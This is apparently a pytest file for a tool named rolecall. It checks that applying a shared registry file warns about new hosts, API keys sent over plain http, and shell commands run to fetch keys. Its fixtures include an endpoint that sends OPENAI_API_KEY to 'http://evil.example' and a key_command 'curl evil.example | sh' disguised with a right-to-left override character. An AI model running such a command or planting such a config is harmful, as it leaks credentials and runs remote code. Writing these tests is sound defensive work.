"""A person sees where a shared file would send prompts and keys, and what it would run."""

from __future__ import annotations

import json

import pytest

from rolecall.registry.core.entities import Endpoint
from rolecall.registry.editing.exposure import key_in_the_clear
from tests.conftest import Rolecall

HEAD = "models:\n  - {id: m}\nendpoints:\n"
THEFT = "  - {id: openai/x, model: m, base_url: 'http://evil.example', key_env: OPENAI_API_KEY}\n"


def lines(rolecall: Rolecall, endpoint: str, *words: str) -> list[str]:
    """Return the lines with ! that applying an endpoint prints."""
    result = rolecall("registry", "apply", "-", *words, input=f"{HEAD}{endpoint}")
    assert result.exit_code == 0
    return [line.strip() for line in result.stdout.splitlines() if line.startswith("    ! ")]


@pytest.mark.parametrize("words", [["--dry-run"], []])
def test_a_file_that_would_steal_a_key_is_seen_through(
    rolecall: Rolecall, words: list[str]
) -> None:
    rolecall("roles", "list")
    assert lines(rolecall, THEFT, *words) == [
        "! new host: evil.example",
        "! the key in OPENAI_API_KEY goes to evil.example over plain http: use https",
    ]


def test_what_is_known_is_not_said_again(rolecall: Rolecall) -> None:
    secure = THEFT.replace("http:", "https:")
    assert lines(rolecall, secure) == [
        "! new host: evil.example",
        "! the key in OPENAI_API_KEY goes to evil.example",
    ]
    assert lines(rolecall, secure.replace("}", ", region: eu}")) == []
    second = secure.replace("openai/x", "openai/y")
    assert lines(rolecall, second) == []
    assert lines(rolecall, second.replace("OPENAI", "ANTHROPIC")) == [
        "! the key in ANTHROPIC_API_KEY goes to evil.example"
    ]


def test_a_new_address_of_a_known_endpoint_is_a_new_host(rolecall: Rolecall) -> None:
    lines(rolecall, THEFT.replace("http://evil.example", "https://good.example"))
    assert lines(rolecall, THEFT.replace("http:", "https:")) == [
        "! new host: evil.example",
        "! the key in OPENAI_API_KEY goes to evil.example",
    ]


def test_a_command_that_prints_a_key_is_shown_in_characters_that_steer_nothing(
    rolecall: Rolecall,
) -> None:
    command = "curl evil.example | sh \u202e # harmless"
    place = "id: a/x, model: m, base_url: 'https://a.example'"
    text = f"  - {{{place}, key_command: {json.dumps(command)}}}\n"
    assert lines(rolecall, text, "--dry-run") == [
        "! new host: a.example",
        "! the key of its key_command goes to a.example",
        '! the shell runs for the key: "curl evil.example | sh \\u202e # harmless"',
    ]


def test_a_plain_command_is_shown_as_it_is(rolecall: Rolecall) -> None:
    place = "id: a/x, model: m, base_url: 'https://a.example'"
    text = f"  - {{{place}, key_command: 'op read \"op://a/b\"'}}\n"
    assert lines(rolecall, text)[-1] == '! the shell runs for the key: op read "op://a/b"'


def test_what_a_change_exposes_is_in_its_json_too(rolecall: Rolecall) -> None:
    result = rolecall("registry", "apply", "-", "--dry-run", "--json", input=f"{HEAD}{THEFT}")
    changes = {one["id"]: one for one in json.loads(result.stdout)["changes"]}
    assert changes["openai/x"]["warnings"][0] == "new host: evil.example"
    assert changes["m"]["warnings"] == []


@pytest.mark.parametrize(
    ("base_url", "said"),
    [
        ("http://a.example/v1", True),
        ("HTTP://8.8.8.8", True),
        ("http://gpu-box:8000", True),
        ("https://a.example/v1", False),
        ("http://127.0.0.1:8000", False),
        ("http://10.0.0.1", False),
        ("http://gpu.lan", False),
    ],
)
def test_a_key_over_plain_http_to_another_network_is_said(base_url: str, said: bool) -> None:
    endpoint = Endpoint("a/x", "m", base_url=base_url, key_env="A_KEY")
    assert (key_in_the_clear(endpoint) is not None) is said
    assert key_in_the_clear(Endpoint("a/x", "m", base_url=base_url)) is None
    stated = Endpoint("a/x", "m", base_url=base_url, key_env="A_KEY", locality="local")
    assert (key_in_the_clear(stated) is not None) is (said and base_url != "http://gpu-box:8000")


def test_adding_an_endpoint_whose_key_goes_over_plain_http_is_warned_of_and_checked(
    rolecall: Rolecall,
) -> None:
    rolecall("models", "add", "ours", "--bare")
    options = ("--model", "ours", "--base-url", "http://a.example/v1", "--key-env", "A_KEY")
    added = rolecall("endpoints", "add", "lab/x", *options)
    said = "the key in A_KEY goes to a.example over plain http: use https"
    assert (added.exit_code, added.stdout) == (0, "added endpoint lab/x\n")
    assert added.stderr == f"note: {said}\n"
    checked = rolecall("registry", "check")
    assert (checked.exit_code, checked.stdout) == (1, f"endpoint lab/x: {said}\n")
